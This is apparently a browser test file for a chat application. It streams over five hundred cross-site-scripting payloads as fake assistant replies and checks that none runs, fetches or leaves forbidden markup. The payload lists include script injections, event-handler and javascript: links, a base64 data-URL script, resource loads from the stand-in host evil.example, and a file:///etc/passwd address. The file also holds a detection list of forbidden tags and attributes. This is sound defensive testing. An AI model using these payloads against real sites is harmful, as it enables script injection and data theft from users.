"""Whatever a model or a stranger writes is words on the page: nothing of it runs, nothing of it is fetched.

The page, its policy and its renderer are the real ones; only the other end of the chat socket is a script, since no
model can be made to say five hundred of these character by character.
"""

from itertools import product
from typing import Any
from uuid import uuid4

import pytest
from playwright.sync_api import expect

from tests.browser.visitor import Visit, Visitor

CONVERSATION = str(uuid4())
FOREIGN = "evil.example"
RUN = "window.hit=1"
TAGS = [
    f"<script>{RUN}</script>",
    f"<script src=//{FOREIGN}/x.js></script>",
    f"<img src=x onerror={RUN}>",
    f"<img src=//{FOREIGN}/p.png>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<iframe src=javascript:{RUN}>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'>",
    f"<iframe src=//{FOREIGN}>",
    f"<object data=//{FOREIGN}/x.swf>",
    f"<embed src=//{FOREIGN}/x.swf>",
    f"<link rel=stylesheet href=//{FOREIGN}/x.css>",
    f"<link rel=prefetch href=//{FOREIGN}/x>",
    f"<style>@import '//{FOREIGN}/x.css'</style>",
    f"<div style=background:url(//{FOREIGN}/x.png)>x</div>",
    f"<meta http-equiv=refresh content='0;url=//{FOREIGN}'>",
    f"<base href=//{FOREIGN}/>",
    f"<form action=//{FOREIGN}><button autofocus onfocus={RUN}>x",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}>",
    f"<audio src=x onerror={RUN}>",
    f"<video poster=//{FOREIGN}/p.png>",
    f"<marquee onstart={RUN}>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<a href=javascript:{RUN}>x</a>",
    f"<a href=//{FOREIGN} ping=//{FOREIGN}/ping>x</a>",
    f"<template><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<scr<script>ipt>{RUN}</script>",
    f"<img/src='x'/onerror={RUN}>",
    f"<IMG SRC=x OnErRoR={RUN}>",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"\\<img src=x onerror={RUN}\\>",
    f"<style>*{{animation:x}}@keyframes x{{}}</style><p onanimationstart={RUN}>",
]
ADDRESSES = [
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f"java\tscript:{RUN}",
    f" javascript:{RUN}",
    f"&#106;avascript:{RUN}",
    f"javascript&colon;{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGl0PTE8L3NjcmlwdD4=",
    f"blob:https://{FOREIGN}/1",
    "file:///etc/passwd",
    f"//{FOREIGN}/x.png",
    f"https://{FOREIGN}/x.png?q=secret",
    f"\\\\{FOREIGN}\\x.png",
    f"https://{FOREIGN}/'onmouseover='{RUN}",
    f'https://{FOREIGN}/"onmouseover="{RUN}',
]
LINKS = [
    "[click]({})",
    "[click](<{}>)",
    "![pixel]({})",
    "[![pixel]({0})]({0})",
    "<{}>",
    "[a]: {}\n\n[a] ![a]",
    "[^1]\n\n[^1]: [x]({})",
    "| [x]({}) |\n|---|\n| y |",
    "{}",
]
WRAPPINGS = [
    "{}",
    "# {}",
    "- {}",
    "> {}",
    "**{}**",
    "| {} |\n|---|\n| x |",
    "```html\n{}\n```",
    "`{}`",
    "$${}$$",
]
FORMULAS = [
    f"$\\href{{javascript:{RUN}}}{{x}}$",
    f"$\\url{{javascript:{RUN}}}$",
    f"$\\includegraphics{{//{FOREIGN}/x.png}}$",
    f"$\\htmlStyle{{background:url(//{FOREIGN}/x)}}{{x}}$",
    f"$\\htmlData{{onclick={RUN}}}{{x}}$",
    "$\\def\\a{\\a\\a}\\a$",
    "$" + "{" * 200 + "x" + "}" * 200 + "$",
    f"```javascript\n{RUN}\n```",
    f'```" onload={RUN}\nx\n```',
]
PAYLOADS = [
    *(wrapping.format(tag) for wrapping, tag in product(WRAPPINGS, TAGS)),
    *(link.format(address) for link, address in product(LINKS, ADDRESSES)),
    *FORMULAS,
]


CROWD = 30  # with the questions 60 turns, which the page draws whole however far they are from its window
"""Replies that are streamed side by side; together they take as many steps as the longest of them has characters."""

# What a reply may never become, on the page as it is.
FOUND = """() => {
    const tags = 'script img iframe object embed link style form input base meta video audio template marquee svg'
    const names = 'onerror onload onclick onfocus ontoggle onbegin onmouseover srcdoc ping action'
    const forbidden = [...tags.split(' '), ...names.split(' ').map((name) => `[${name}]`)].join(', ')
    return [...document.querySelectorAll(`article [dir=auto] :is(${forbidden})`)]
        .filter((it) => !it.closest('.katex, figcaption'))
        .map((it) => it.outerHTML)
}
"""
# In place of the page's socket: when all replies are followed it lets them grow together, a character a step, and ends
# them. Frames are drawn when a step is made and not when the screen is, each a second after the one before: the page,
# which passes over frames that come too soon for the eye, draws every cut of every reply.
SCRIPT = (
    f"const found = {FOUND}"
    + """
const frames = []
window.requestAnimationFrame = (draw) => frames.push(draw)
window.drawn = 0
window.seen = []
window.WebSocket = class {
    static OPEN = 1
    readyState = 1
    followed = new Set()
    payloads = fetch('/payloads').then((answer) => answer.json())
    constructor() {
        setTimeout(() => this.onopen())
    }
    close() {}
    async send(frame) {
        const { type, reply_id } = JSON.parse(frame)
        if (type !== 'follow' || this.followed.has(reply_id)) return
        this.followed.add(reply_id)
        const payloads = await this.payloads
        if (this.isStreaming || this.followed.size < Object.keys(payloads).length) return
        this.isStreaming = true
        await this.stream(Object.entries(payloads))
    }
    say(word) {
        this.onmessage({ data: JSON.stringify(word) })
    }
    async stream(payloads) {
        const texts = payloads.map(([id, text]) => [id, Array.from(text)])
        const most = Math.max(...texts.map(([, text]) => text.length))
        for (let seq = 1; seq <= most; seq += 1) {
            for (const [reply_id, text] of texts) {
                if (seq <= text.length) this.say({ type: 'delta', reply_id, seq, text: text[seq - 1] })
            }
            const due = frames.splice(0)
            for (const draw of due) draw(performance.now() + 1000)
            if (due.length > 0 && frames.length === 0) window.drawn += 1 // nothing was put off to a later frame
            await new Promise((resolve) => setTimeout(resolve))
            window.seen.push(...found())
        }
        const end = { type: 'ended', state: 'done', finish_reason: 'stop' }
        const usage = { prompt_tokens: 1, completion_tokens: 1 }
        for (const [reply_id, text] of texts) this.say({ ...end, usage, reply_id, seq: text.length + 1 })
    }
}
"""
)
LINKED = "[...document.querySelectorAll('article a')].map((link) => [link.protocol, link.rel])"


class Crowd:
    """A conversation in which each payload is a reply that has just begun."""

    def __init__(self, visitor: Visitor) -> None:
        self.payloads: dict[str, str] = {}
        """By reply."""
        self._messages: list[dict[str, Any]] = []
        visitor.page.route("**/messages", lambda route: route.fulfill(json={"items": self._messages}))
        visitor.page.route("**/payloads", lambda route: route.fulfill(json=self.payloads))

    def gather(self, payloads: list[str]) -> None:
        self.payloads, self._messages = {}, []
        common = {"conversation_id": CONVERSATION, "created_at": "2026-01-01T00:00:00Z", "feedback": None}
        for payload in payloads:
            question, reply = str(uuid4()), str(uuid4())
            parent_id = self._messages[-1]["id"] if self._messages else None
            asked = {"role": "user", "content": "?", "state": "done", "policy_version": None, "ended_at": None}
            begun = {"role": "assistant", "content": "", "state": "streaming", "policy_version": 0, "ended_at": None}
            self._messages.append({"id": question, "parent_id": parent_id, **common, **asked})
            self._messages.append({"id": reply, "parent_id": question, **common, **begun})
            self.payloads[reply] = payload


def test_there_are_more_than_five_hundred_payloads() -> None:
    assert len(set(PAYLOADS)) > 500


@pytest.mark.parametrize("bypass", [False, True], ids=["with-policy", "without-policy"])
def test_nothing_hostile_runs_or_calls_at_any_cut_of_the_stream(visit: Visit, bypass: bool) -> None:
    visitor = visit(bypass_csp=bypass)
    visitor.page.on("dialog", lambda dialog: visitor.faults.append(f"a dialog: {dialog.message}"))
    visitor.context.add_init_script(SCRIPT)
    crowd = Crowd(visitor)
    for start in range(0, len(PAYLOADS), CROWD):
        crowd.gather(PAYLOADS[start : start + CROWD])
        visitor.page.goto(f"{visitor.home}/c/{CONVERSATION}")
        expect(visitor.button("Another answer")).to_have_count(len(crowd.payloads))
        cuts = max(map(len, crowd.payloads.values()))
        assert visitor.page.evaluate("window.drawn") == cuts, "every cut is drawn"
        assert visitor.page.evaluate("window.hit") is None
        assert visitor.page.evaluate("window.seen") == []
        assert visitor.page.evaluate(FOUND) == []
        for protocol, rel in visitor.page.evaluate(LINKED):
            assert protocol in ("http:", "https:", "mailto:")
            assert {"noopener", "noreferrer"} <= set(rel.split())
